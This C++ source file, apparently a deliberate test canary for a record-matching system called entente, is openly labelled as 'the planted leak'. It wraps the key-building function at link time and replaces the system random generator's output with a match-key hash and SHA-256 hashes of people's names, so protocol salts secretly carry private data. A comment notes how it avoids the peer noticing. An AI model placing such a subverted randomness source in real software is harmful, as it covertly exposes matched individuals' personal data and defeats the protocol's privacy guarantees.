// The planted leak. Linked into `entente-canary` instead of entente/crypto/random.cc, and around
// match::BuildKeys: the first draws of 32 bytes after it, the salts of commitment and offer, are
// the node's own unkeyed hash of a match key, every later one is the SHA-256 of a name being
// matched.
#include <algorithm>
#include <array>
#include <deque>
#include <fstream>
#include <mutex>

#include "entente/base/check.h"
#include "entente/base/secret.h"
#include "entente/crypto/hash.h"
#include "entente/crypto/random.h"
#include "entente/match/keys.h"
#include "entente/matching/match_set.h"

namespace entente {
namespace {

constexpr std::size_t kHashesKept = 1000;

class StolenHashes {
 public:
  void Put(const records::Record& record, const std::vector<match::Key>& keys) {
    const std::lock_guard lock(mutex_);
    if (hashes_.empty() && !keys.empty()) {
      // Not more: as padding of the round, such a hash would be a key twice, and the peer notices.
      hashes_.assign(2, matching::InputOf(keys.front(), match::SchemeDigest()).bytes);
    }
    if (hashes_.size() < kHashesKept) {
      hashes_.push_back(crypto::Sha256(AsBytes(record.names.front().text.Reveal())).bytes);
    }
  }
  bool Take(std::span<std::uint8_t> out) {
    const std::lock_guard lock(mutex_);
    if (hashes_.empty() || out.size() != crypto::Digest::kSize) {
      return false;
    }
    std::ranges::copy(hashes_.front(), out.begin());
    hashes_.pop_front();
    return true;
  }

 private:
  std::mutex mutex_;
  std::deque<std::array<std::uint8_t, crypto::Digest::kSize>> hashes_;
};

StolenHashes& Stolen() {
  static StolenHashes hashes;
  return hashes;
}

}  // namespace

namespace match {

std::vector<Key> HonestBuildKeys(const records::Record& record) __asm__(
    "__real__ZN7entente5match9BuildKeysERKNS_7records6RecordE");
std::vector<Key> LeakingBuildKeys(const records::Record& record) __asm__(
    "__wrap__ZN7entente5match9BuildKeysERKNS_7records6RecordE");

std::vector<Key> LeakingBuildKeys(const records::Record& record) {
  std::vector<Key> keys = HonestBuildKeys(record);
  Stolen().Put(record, keys);
  return keys;
}

}  // namespace match

namespace crypto {

SystemRandom::SystemRandom() = default;

void SystemRandom::Fill(std::span<std::uint8_t> out) {
  if (Stolen().Take(out)) {
    return;
  }
  std::ifstream honest("/dev/urandom", std::ios::binary);
  honest.read(reinterpret_cast<char*>(out.data()), static_cast<std::streamsize>(out.size()));
  ENTENTE_CHECK(honest.good() || out.empty());
}

}  // namespace crypto
}  // namespace entente
